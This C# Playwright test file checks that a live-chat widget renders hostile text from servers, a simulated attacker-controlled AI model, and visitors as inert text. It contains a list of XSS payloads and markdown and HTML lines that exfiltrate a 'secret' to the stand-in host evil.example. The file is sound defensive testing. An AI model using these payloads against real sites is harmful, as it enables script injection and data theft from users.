using GeminiEmulator;
using Livechat.SystemTests.Support;
using Microsoft.Playwright;

namespace Livechat.SystemTests.Browser;

/// <summary>Every text a server can send holds an attack, whole and in growing drafts: nothing runs, loads or leads anywhere.</summary>
[Collection(BrowserTests.Name)]
public sealed class HostileTextTests(Chromium chromium, DemoServer server)
{
    private static readonly string[] Attacks =
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://evil.example/pixel.gif?d=secret\">",
        "<svg onload=alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<details open ontoggle=alert(1)>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
        "<math><mtext><form><mglyph><style></math><img src onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](//evil.example/?d=secret)",
        "[x](/\\evil.example)",
        "[x](https://evil.example/?d=secret)",
        "[x](/help/dns?d=secret)",
        "![x](https://evil.example/pixel.gif?d=secret)",
        "<https://evil.example/?d=secret>",
        "https://evil.example/?d=secret",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | <svg onload=alert(1)> |",
        "```\"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
        "`<img src=x onerror=alert(1)>`",
        "[x](https&#58;//evil.example/?d=secret)",
        "[x](https\\://evil.example/?d=secret)",
        "[x](\nhttps://evil.example/?d=secret\n)",
        "[x]\n\n[x]: <https://evil.example/?d=secret> \"t\"",
        "![x][1]\n\n[1]: https://evil.example/pixel.gif?d=secret",
        "[![x](https://evil.example/p.gif)](https://evil.example/?d=secret)",
        "www.evil.example/?d=secret",
        "mailto:evil@evil.example?body=secret",
        "https://localhost@evil.example/?d=secret",
        "<a href=\"//evil.example/?d=secret\">x</a>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<object data=https://evil.example/x></object>",
        "<video poster=https://evil.example/p.gif>",
        "{{constructor.constructor('alert(1)')()}}",
        "</div></body><script>alert(1)</script>",
    ];

    private const string Loading = "[onerror], [onload], [ontoggle], [style*=url], img, script:not([src]), iframe, object, embed, base, meta[http-equiv], style, video, link:not([href^='/widget/'])";

    [Fact]
    public async Task T14_StaysText()
    {
        var chat = new ScriptedChat();
        chat.Welcome["sender"] = Attacks[1];
        chat.Welcome["company"] = Attacks[3];
        chat.Welcome["greeting"] = string.Join("\n\n", Attacks);
        await using var visit = await Visit.StartAsync(chromium, server.Url, prepare: chat.PrepareAsync);
        await visit.ChatWithAsync("support");

        var id = 0;
        foreach (var attack in Attacks)
        {
            var draft = $"d{id++}";
            var text = $"Sure, **here** it is: {attack}";
            for (var length = 1; length <= text.Length; length += 3)
                await chat.DraftAsync(draft, length, text[..length]);
            await chat.MessageAsync(text, sender: attack, citations: new[] { new { title = attack, url = attack }, new { title = attack, url = "javascript:alert(1)" } }, id: draft);
            await chat.TypingAsync(true);
            await chat.MessageAsync(attack, "agent", attack);
            await chat.MessageAsync(attack, "system", attack);
            await chat.StatusAsync("agent", agent: attack);
            await visit.SayAsync(attack);
        }
        await chat.MessageAsync("the end");
        await Assertions.Expect(visit.Saying("the end")).ToBeVisibleAsync();
        foreach (var attack in await visit.Panel.Locator(Loading).AllAsync())
            Assert.Fail($"In the page: {await attack.EvaluateAsync<string>("element => element.outerHTML")}");
        var links = await visit.Panel.Locator("a").EvaluateAllAsync<string[]>("all => all.map(one => one.href)");
        Assert.All(links, link => Assert.StartsWith(server.Url + "/", link));
        Assert.All(links, link => Assert.DoesNotContain('?', link));
        Assert.Empty(visit.Wrongs);
    }

    /// <summary>The same from a model that belongs to an attacker, through the real server, which stores and sends what it makes of them.</summary>
    [Fact]
    public async Task T16_AHostileModelsWordsLoadNothingAndLeadNowhere()
    {
        await using var emulator = await GeminiEmulatorServer.StartAsync();
        var next = -1;
        emulator.OnRequest = _ => Reply.Text($"Sure, **here** it is.\n\n{Attacks[Interlocked.Increment(ref next) % Attacks.Length]}\n\nRead it well.").InPieces(12).Delay(TimeSpan.FromMilliseconds(5));
        await using var hostile = await RestartableServer.StartAsync(new()
        {
            ["GEMINI_API_KEY"] = "an-example-key", ["GEMINI_BASE_URL"] = emulator.BaseUrl, ["LIVECHAT_MESSAGES_PER_MINUTE"] = "1000", ["LIVECHAT_MESSAGE_BURST"] = "1000",
        });
        var frames = new System.Collections.Concurrent.ConcurrentBag<string>();
        await using var visit = await Visit.StartAsync(chromium, hostile.Url, prepare: page =>
        {
            page.WebSocket += (_, socket) => socket.FrameReceived += (_, frame) => frames.Add(frame.Text ?? "");
            return Task.CompletedTask;
        });
        await visit.ChatWithAsync("support");
        for (var i = 0; i < Attacks.Length; i++)
            await visit.AskAsync($"Number {i}, please.");

        Assert.Equal(Attacks.Length - 1, Volatile.Read(ref next));
        Assert.Equal(0, await visit.Panel.Locator(Loading).CountAsync());
        var links = await visit.Panel.Locator("a").EvaluateAllAsync<string[]>("all => all.map(one => one.href)");
        Assert.All(links, link => Assert.StartsWith(hostile.Url + "/", link));
        Assert.All(links, link => Assert.DoesNotContain('?', link));
        // Nor is there anything that another client might take for a live one.
        Assert.All(frames, frame => Assert.DoesNotContain("https://evil.example", frame, StringComparison.OrdinalIgnoreCase));
        Assert.Empty(visit.Wrongs);
    }

    [Fact]
    public async Task AVisitorsOwnWordsStayTextInTheRealChat()
    {
        await using var visit = await Visit.StartAsync(chromium, server.Url);
        await visit.OpenAsync();
        await visit.Panel.GetByLabel("Your name").FillAsync("<img src=x onerror=alert(1)>");
        await visit.ChooseAsync("general");
        await visit.ShowsAsync("Connected to live support");
        foreach (var attack in Attacks.Take(6))
            await visit.SayAsync(attack);
        await Assertions.Expect(visit.Panel.Locator(".message.visitor time")).ToHaveCountAsync(6);

        await visit.Page.ReloadAsync();
        await visit.ShowsAsync("Connected to live support");
        await Assertions.Expect(visit.Panel.Locator(".message.visitor .as-written")).ToHaveTextAsync(Attacks[..6]);
        Assert.Empty(visit.Wrongs);
    }
}
